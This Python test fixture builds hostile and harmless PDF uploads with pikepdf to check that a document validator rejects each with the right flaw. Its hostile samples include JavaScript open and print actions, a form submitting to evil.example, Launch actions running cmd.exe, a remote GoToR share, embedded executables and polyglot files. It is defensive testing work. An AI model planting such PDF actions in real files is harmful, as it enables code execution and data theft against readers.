"""Files that people and attackers upload as a mission's note."""

import io
import zipfile
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from registration.documents.rules import SIZE_LIMIT, Flaw
from tests.responses.samples import a_pdf, saved


def _with(change: Callable[[pikepdf.Pdf], None], **how: object) -> bytes:
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        change(pdf)
        return saved(pdf, **how)


def _opening(**action: object) -> bytes:
    return _with(lambda pdf: pdf.Root.__setitem__("/OpenAction", Dictionary(**action)))


def _annotated(**entries: object) -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        note = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries))
        pdf.pages[0].obj.Annots = Array([note])

    return _with(change)


def _script_among_names(pdf: pikepdf.Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(script)]))
    )


def _script_when_printed(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))
    pdf.Root.AA = Dictionary(WP=action)


def _file_inside(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["payload.exe"] = b"MZ"


def _form(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = Dictionary(XFA=String("<xdp/>"), Fields=Array([]))


def _encrypted(**how: str) -> bytes:
    return _with(lambda pdf: None, encryption=pikepdf.Encryption(**how))


def _nested(depth: int) -> bytes:
    deep = b"[" * depth + b"]" * depth
    return b"%PDF-1.4\n1 0 obj\n" + deep + b"\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF\n"


def _archive() -> bytes:
    into = io.BytesIO()
    with zipfile.ZipFile(into, "w") as archive:
        archive.writestr("payload.js", "alert(1)")
    return into.getvalue()


def _script_in_the_trailer() -> bytes:
    """A file whose catalogue is no object of its own."""
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    pages = b"%PDF-1.4\n1 0 obj\n<</Type/Pages/Kids[2 0 R]/Count 1>>\nendobj\n"
    page = b"2 0 obj\n<</Type/Page/Parent 1 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    places = b"%010d 00000 n \n%010d 00000 n \n" % (9, len(pages))
    table = b"xref\n0 3\n0000000000 65535 f \n" + places
    root = b"<</Type/Catalog/Pages 1 0 R/OpenAction" + script + b">>"
    end = b"trailer\n<</Size 3/Root" + root + b">>\nstartxref\n%d\n%%%%EOF\n"
    return pages + page + table + end % len(pages + page)


PAGE = b"<html><script>alert(1)</script></html>"
HOSTILE: dict[str, tuple[bytes, Flaw]] = {
    "nothing": (b"", Flaw.EMPTY),
    "21 megabytes": (a_pdf() + b"\n" * (21 * 10**6), Flaw.TOO_BIG),
    "one byte too many": (b"%PDF-1.4\n" + b"\n" * SIZE_LIMIT, Flaw.TOO_BIG),
    "a page renamed": (PAGE, Flaw.NOT_PDF),
    "a drawing renamed": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", Flaw.NOT_PDF),
    "a program renamed": (b"MZ\x90\x00" + bytes(100), Flaw.NOT_PDF),
    "a picture renamed": (b"\xff\xd8\xff\xe0" + bytes(100), Flaw.NOT_PDF),
    "an archive renamed": (_archive(), Flaw.NOT_PDF),
    "something before the mark": (b" " + a_pdf(), Flaw.NOT_PDF),
    "a page in front": (b"%PDF-1.4\n" + PAGE + a_pdf(), Flaw.TWO_IN_ONE),
    "an archive behind": (a_pdf() + _archive(), Flaw.TWO_IN_ONE),
    "the mark alone": (b"%PDF-1.7\n", Flaw.BROKEN),
    "cut short": (a_pdf(40)[:300], Flaw.BROKEN),
    "noise": (b"%PDF-1.7\n" + bytes(range(256)) * 40, Flaw.BROKEN),
    "no page": (saved(pikepdf.new()), Flaw.BROKEN),
    "nested without end": (_nested(200_000), Flaw.BROKEN),
    "a password to open": (_encrypted(user="secret", owner="secret"), Flaw.ENCRYPTED),
    "a password to change": (_encrypted(owner="secret"), Flaw.ENCRYPTED),
    "a script at opening": (
        _opening(S=Name.JavaScript, JS=String("app.alert(1)")),
        Flaw.SCRIPT,
    ),
    "a script by name": (_with(_script_among_names), Flaw.SCRIPT),
    "a script at printing": (_with(_script_when_printed), Flaw.SCRIPT),
    "a script in a stream of objects": (
        _with(_script_among_names, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        Flaw.SCRIPT,
    ),
    "a script in the trailer": (_script_in_the_trailer(), Flaw.SCRIPT),
    "a form of scripts": (_with(_form), Flaw.SCRIPT),
    "a form that is sent": (
        _annotated(
            Subtype=Name.Link,
            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example")),
        ),
        Flaw.SCRIPT,
    ),
    "a program at opening": (_opening(S=Name.Launch, F=String("cmd.exe")), Flaw.LAUNCH),
    "another file at opening": (
        _opening(S=Name.GoToR, F=String("//evil.example/share"), D=Array([0, Name.Fit])),
        Flaw.LAUNCH,
    ),
    "a second action behind a first": (
        _opening(
            S=Name.GoTo,
            D=Array([]),
            Next=Dictionary(S=Name.Launch, F=String("cmd.exe")),
        ),
        Flaw.LAUNCH,
    ),
    "a file inside": (_with(_file_inside), Flaw.ATTACHMENT),
    "a film": (_annotated(Subtype=Name.RichMedia), Flaw.ATTACHMENT),
    "a file pinned to a page": (
        _annotated(Subtype=Name.FileAttachment, FS=Dictionary(F=String("x"))),
        Flaw.ATTACHMENT,
    ),
    "too many pages": (a_pdf(201), Flaw.TOO_LONG),
}


def _linked() -> bytes:
    return _annotated(
        Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://mfa.example"))
    )


HONEST: dict[str, bytes] = {
    "one page": a_pdf(),
    "as many pages as may be": a_pdf(200),
    "with a link": _linked(),
    "opening at a page": _opening(S=Name.GoTo, D=Array([])),
    "with objects in streams": _with(
        lambda pdf: None, object_stream_mode=pikepdf.ObjectStreamMode.generate
    ),
    "linearized": _with(lambda pdf: None, linearize=True),
    "with blanks behind": a_pdf() + b"\r\n\x00\x00",
    "with a title": _with(lambda pdf: pdf.docinfo.__setitem__("/Title", "Note verbale")),
    "nearly too big": a_pdf() + b"\n" * (SIZE_LIMIT - len(a_pdf())),
}
